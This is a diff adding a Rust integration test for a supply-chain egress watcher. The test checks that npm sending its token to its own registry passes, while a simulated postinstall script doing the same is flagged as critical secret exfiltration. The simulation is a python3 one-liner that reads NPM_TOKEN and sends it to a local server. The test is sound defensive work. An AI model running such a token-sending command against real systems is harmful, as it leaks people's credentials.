@@ -9,7 +9,7 @@ use std::{
 };
 
 use serde_json::Value;
-use watcher_tests::{Listener, Netns, lab::in_netns, read_jsonl, root_or_skip, watcher_bin};
+use watcher_tests::{HttpServer, Listener, Netns, lab::in_netns, read_jsonl, root_or_skip, watcher_bin};
 
 /// Subnets of Netns (distinct per test in this file, away from the other files' ones).
 const SUBNET_DEPTH: u16 = 1101;
@@ -311,4 +311,80 @@ fn a_value_anywhere_in_the_first_64k_of_a_stream_or_in_any_datagram_is_found() {
         assert_no_form("the log", &log, value);
         assert_no_form("stderr", &out.stderr, value);
     }
+}
+
+// ------------------------------------------------------------------------ own credentials
+
+#[test]
+fn npm_sending_its_own_token_to_its_registry_is_not_an_alert_an_install_script_sending_it_is() {
+    if !root_or_skip() {
+        return;
+    }
+    if Command::new("npm").arg("--version").output().map(|o| !o.status.success()).unwrap_or(true) {
+        eprintln!("skipped: npm is not installed");
+        return;
+    }
+    let reg = HttpServer::start("127.0.0.1:0".parse().unwrap()).unwrap();
+    let port = reg.addr().port();
+    let packument = format!(
+        "{{\"name\":\"left-pad\",\"dist-tags\":{{\"latest\":\"1.3.0\"}},\"versions\":{{\"1.3.0\":{{\"name\":\"left-pad\",\"version\":\"1.3.0\",\"dist\":{{\"tarball\":\"http://127.0.0.1:{port}/left-pad/-/left-pad-1.3.0.tgz\"}}}}}}}}"
+    );
+    reg.route("/left-pad", "application/json", packument);
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("package.json"), "{\"name\":\"app\",\"version\":\"1.0.0\"}").unwrap();
+    std::fs::write(
+        dir.path().join(".npmrc"),
+        format!("registry=http://127.0.0.1:{port}/\n//127.0.0.1:{port}/:_authToken=${{NPM_TOKEN}}\n"),
+    )
+    .unwrap();
+    let token = "npm_Xq3v9LmT2pR8sW4kZ7bN1cY6dF0gH5jK";
+    let pol = dir.path().join("p.yaml");
+    std::fs::write(
+        &pol,
+        "version: 1\npipeline: cred\nmode: enforce\negress:\n  registries: [npm]\n  loopback: false\ndns:\n  resolvers: [system]\nsecrets:\n  env: [\"*_TOKEN\"]\n",
+    )
+    .unwrap();
+    let watch = |script: &str, npm_env: bool| {
+        let log = dir.path().join("e.jsonl");
+        let _ = std::fs::remove_file(&log);
+        let mut cmd = Command::new(watcher_bin());
+        cmd.args(["run", "--quiet", "--policy"]).arg(&pol).arg("--log").arg(&log).args(["--", "sh", "-c", script]);
+        cmd.current_dir(dir.path())
+            .env("NPM_TOKEN", token)
+            .env("HOME", dir.path())
+            .env("npm_config_cache", dir.path().join("cache"))
+            .env("npm_config_update_notifier", "false");
+        if npm_env {
+            cmd.env("npm_lifecycle_event", "postinstall")
+                .env("npm_package_name", "worm")
+                .env("npm_package_version", "6.6.6");
+        }
+        let out = cmd.stdin(Stdio::null()).output().unwrap();
+        (out, read_jsonl(&log))
+    };
+    // npm itself: it sends the token (watcher sees it), and that is not an alert.
+    let (out, events) = watch("npm view left-pad version", false);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(0), "{stderr}");
+    assert!(String::from_utf8_lossy(&out.stdout).contains("1.3.0"), "{stderr}");
+    let sends: Vec<&Value> =
+        events.iter().filter(|e| e["kind"] == "send" && e["secrets"][0]["variable"] == "NPM_TOKEN").collect();
+    assert!(!sends.is_empty(), "npm's request carrying its token was not seen: {stderr}");
+    assert_eq!(sends[0]["credential_of"][0], "npm:127.0.0.1");
+    let alerts: Vec<&Value> = events.iter().filter(|e| e["kind"] == "alert").collect();
+    assert!(alerts.is_empty(), "{alerts:#?}");
+    // The same token sent to the same registry from an install script: critical, exit 77.
+    let send = format!(
+        "/usr/bin/python3 -c \"import os,socket; s=socket.create_connection(('127.0.0.1',{port})); s.sendall(b'PUT /worm HTTP/1.1\\r\\nAuthorization: Bearer '+os.environ['NPM_TOKEN'].encode()+b'\\r\\n\\r\\n'); s.close()\""
+    );
+    let (out, events) = watch(&send, true);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(77), "{stderr}");
+    let sec: Vec<&Value> = events.iter().filter(|e| e["kind"] == "alert" && e["rule"] == "secret-exfil").collect();
+    assert_eq!(sec.len(), 1, "{stderr}");
+    assert_eq!(sec[0]["severity"], "critical");
+    assert_eq!(sec[0]["package"], "npm:worm@6.6.6 (postinstall)");
+    // Replay gives the same verdicts.
+    let rep = Command::new(watcher_bin()).arg("replay").arg(dir.path().join("e.jsonl")).output().unwrap();
+    assert_eq!(rep.status.code(), Some(77));
 }
